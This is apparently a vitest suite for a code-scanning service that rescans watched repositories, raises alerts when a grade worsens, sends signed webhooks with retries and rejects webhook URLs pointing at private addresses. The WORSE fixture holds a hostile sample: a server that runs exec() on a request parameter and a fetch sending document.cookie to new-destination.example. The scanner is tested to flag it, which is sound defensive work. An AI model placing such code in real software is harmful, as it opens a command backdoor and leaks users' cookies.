import { createHmac } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deliverDue } from '../../service/watch/deliver.ts';
import { submitDue } from '../../service/watch/schedule.ts';
import { extensionZip, startSurroundings, type Surroundings } from './surroundings.ts';
import { startTestService, until, type TestService } from './testService.ts';

const HARMLESS = { 'a.js': 'console.log(1);\n', LICENSE: 'MIT License\n' };
const WORSE = {
  'a.js':
    "const { exec } = require('node:child_process');\nrequire('node:http').createServer((request) => exec(new URL(request.url, 'http://x').searchParams.get('q')));\nfetch('https://new-destination.example/' + document.cookie);\n",
};

/** Records that are scanned by themselves, and who is told when they become worse. */
export function watchesSuite(name: string, settings: () => Promise<Readonly<Record<string, string>>>): void {
  describe(`watches on ${name}`, () => {
    let around: Surroundings;
    let service: TestService;
    let id: number;
    const never = new AbortController().signal;
    const sql = (text: string, values: unknown[] = []) => service.service.context.database.pool.query(text, values);
    const session = (method: string, path: string, body?: unknown) =>
      service.call(method, `/settings${path}`, { cookie: service.cookie, ...(body === undefined ? {} : { body }) });
    const due = async () => {
      await sql('UPDATE watches SET next_at = now()');
      return await submitDue(service.service.context, never);
    };
    const runs = async () =>
      (await service.get(`/repos/${id}/scans`)).body.scans as { triggered_by: string; status: string }[];

    beforeAll(async () => {
      around = await startSurroundings();
      service = await startTestService(around, await settings());
      around.git.commit('owner/watched', 'main', HARMLESS);
      id = (await service.post('/repos/analyze', { url: 'https://github.com/owner/watched' })).body.repo_id;
      await service.ended(id);
    });
    afterAll(async () => {
      await service?.stop();
      await around?.close();
    });

    it('are set for what can change, by who may see it', async () => {
      expect(await session('PUT', `/watches/${id}`, { every: 'hourly' })).toMatchObject({
        status: 422,
        body: { detail: [{ loc: ['body', 'every'] }] },
      });
      const { body } = await session('PUT', `/watches/${id}`, { every: 'weekly' });
      expect(body).toMatchObject({ repo_id: id, every: 'weekly' });
      expect(Date.parse(body.next_at) - Date.now()).toBeGreaterThan(6.9 * 86_400_000);
      expect((await session('PUT', `/watches/${id}`, { every: 'daily' })).body.every).toBe('daily');
      expect((await session('GET', '/watches')).body.watches).toHaveLength(1);
      const upload = (await service.upload('a.zip', extensionZip('1.0'))).body.repo_id;
      expect((await session('PUT', `/watches/${upload}`, { every: 'daily' })).status).toBe(422);
      await service.ended(upload);
      const { rows } = await sql("INSERT INTO organisations (name) VALUES ('Others') RETURNING id");
      const foreign = (
        await sql(
          'INSERT INTO records (org_id, identity, url, title, source_type, source) VALUES ($1, \'x\', \'x\', \'x\', \'git\', \'{"kind":"git","cloneUrl":"https://x.example/a","branch":"main","branchAsked":false,"host":"x.example","owner":"","name":"a"}\') RETURNING id',
          [rows[0].id],
        )
      ).rows[0].id;
      for (const method of ['PUT', 'DELETE'])
        expect(
          (await session(method, `/watches/${foreign}`, method === 'PUT' ? { every: 'daily' } : undefined)).status,
        ).toBe(404);
      // Somebody of a sub-organisation sees and watches what belongs there, and nothing else.
      const team = (await session('POST', '/sub-orgs', { name: 'Team' })).body.id;
      await sql("UPDATE users SET sub_org_id = $1, role = 'member'", [team]);
      expect((await session('PUT', `/watches/${id}`, { every: 'daily' })).status).toBe(404);
      expect((await session('GET', '/watches')).body.watches).toEqual([]);
      expect((await session('GET', '/webhook')).status).toBe(403);
      await sql("UPDATE users SET sub_org_id = NULL, role = 'admin'");
    });

    it('open one scan when they are due, however many look, and none while one is open or the plan forbids it', async () => {
      expect(await submitDue(service.service.context, never)).toBe(0);
      await sql('UPDATE organisations SET tier = 2');
      expect(await due()).toBe(0);
      await sql('UPDATE organisations SET tier = 3');
      await sql('UPDATE watches SET next_at = now()');
      const opened = await Promise.all([1, 2, 3].map(() => submitDue(service.service.context, never)));
      expect(opened.reduce((sum, count) => sum + count, 0)).toBe(1);
      expect(await due()).toBe(0);
      await service.ended(id);
      expect((await runs())[0]).toMatchObject({ triggered_by: 'schedule', status: 'completed' });
      expect(await runs()).toHaveLength(2);
      // Nothing changed, so nobody is told anything.
      expect((await session('GET', '/alerts')).body).toMatchObject({ total: 0, alerts: [] });
    });

    it('leave an extension whose version was analysed already', async () => {
      const { repo_id: extension } = (
        await service.post('/extensions/submit-url', {
          store_url: `https://chromewebstore.google.com/detail/x/${around.chromeId}`,
        })
      ).body;
      await service.ended(extension);
      await session('PUT', `/watches/${extension}`, { every: 'daily' });
      await sql('UPDATE watches SET next_at = now() WHERE record_id = $1', [extension]);
      expect(await submitDue(service.service.context, never)).toBe(0);
      around.offer('9.0');
      await sql('UPDATE watches SET next_at = now() WHERE record_id = $1', [extension]);
      expect(await submitDue(service.service.context, never)).toBe(1);
      await service.ended(extension);
      expect((await session('DELETE', `/watches/${extension}`)).status).toBe(200);
      expect((await session('DELETE', `/watches/${extension}`)).status).toBe(404);
    });

    it('tell what became worse: in the list, in the activity, and to the webhook, signed', async () => {
      const set = await session('PUT', '/webhook', { url: 'https://hooks.example.org/hook' });
      expect(set.status).toBe(200);
      expect(JSON.stringify((await session('GET', '/webhook')).body)).not.toContain(set.body.secret);
      around.git.commit('owner/watched', 'main', WORSE);
      expect(await due()).toBe(1);
      await service.ended(id);
      const { alerts, total } = (await session('GET', '/alerts')).body;
      expect(total).toBe(1);
      expect(alerts[0]).toMatchObject({ repo_id: id, scan_number: 3, at: expect.stringMatching(/Z$/) });
      const kinds = alerts[0].reasons.map((reason: { kind: string }) => reason.kind);
      expect(kinds).toContain('grade');
      expect(alerts[0].reasons).toContainEqual({ kind: 'destination', host: 'new-destination.example' });
      for (const action of ['watch.set', 'webhook.set'])
        expect((await session('GET', `/activity?action=${action}`)).body.total, action).toBeGreaterThan(0);
      expect((await session('GET', '/activity?action=scan.worse')).body.activity[0]).toMatchObject({
        who: 'Touchstone',
        subject: expect.stringMatching(/watched: Grade .* → /),
      });

      await until(async () => {
        await deliverDue(service.service.context, never);
        return around.told[0];
      }, 'the message');
      const [message] = around.told;
      expect(around.told).toHaveLength(1);
      const [, seconds, signature] =
        /^t=(\d+),v1=([0-9a-f]{64})$/.exec(String(message?.headers['touchstone-signature'])) ?? [];
      expect(signature).toBe(createHmac('sha256', set.body.secret).update(`${seconds}.${message?.body}`).digest('hex'));
      expect(Math.abs(Number(seconds) - Date.now() / 1000)).toBeLessThan(60);
      expect(JSON.parse(message?.body ?? '')).toMatchObject({
        event: 'scan.worse',
        repo_id: id,
        triggered_by: 'schedule',
        reasons: alerts[0].reasons,
        previous: { grade: expect.any(String) },
      });
      expect((await session('GET', '/webhook')).body.deliveries[0]).toMatchObject({
        status: 'delivered',
        attempts: 1,
        fault: null,
      });
    });

    it('send again what was not taken, and give up in the end', async () => {
      around.told.length = 0;
      around.hookStatus = 500;
      await sql("INSERT INTO deliveries (org_id, body) VALUES (1, '{}')");
      for (let attempt = 1; attempt <= 6; attempt++) {
        await until(
          async () =>
            (await deliverDue(service.service.context, never)) >= 0 && around.told.length === attempt
              ? true
              : undefined,
          `attempt ${attempt}`,
        );
        const [latest] = (await session('GET', '/webhook')).body.deliveries;
        expect(latest).toMatchObject({
          attempts: attempt,
          status: attempt === 6 ? 'failed' : 'waiting',
          fault: 'It answered 500.',
        });
        // Not before its time.
        await deliverDue(service.service.context, never);
        expect(around.told).toHaveLength(attempt);
        await sql('UPDATE deliveries SET next_at = now() WHERE done_at IS NULL');
      }
      expect(await deliverDue(service.service.context, never)).toBe(0);
      expect(new Set(around.told.map((one) => one.headers['touchstone-delivery'])).size).toBe(1);
      around.hookStatus = 200;
    });

    it('lead to no private address, by no redirect, and to plain http not at all', async () => {
      for (const url of [
        'http://hooks.example.org/',
        'https://127.0.0.1/',
        'https://[::1]/',
        'https://10.0.0.1/',
        'https://a:b@hooks.example.org/',
        'ftp://x',
        'x',
      ])
        expect((await session('PUT', '/webhook', { url })).status, url).toBe(422);
      around.told.length = 0;
      for (const url of ['https://localhost/', 'https://hooks.example.org/away']) {
        expect((await session('PUT', '/webhook', { url })).status, url).toBe(200);
        await sql("INSERT INTO deliveries (org_id, body) VALUES (1, '{}')");
        await deliverDue(service.service.context, never);
        const [latest] = (await session('GET', '/webhook')).body.deliveries;
        expect(latest.fault, url).toMatch(/\w/);
        expect(latest.status, url).toBe('waiting');
        await sql('UPDATE deliveries SET done_at = now()');
      }
      expect(around.told).toEqual([]);
      expect((await session('DELETE', '/webhook')).body.url).toBe(null);
      expect((await session('DELETE', '/webhook')).status).toBe(404);
    });
  });
}
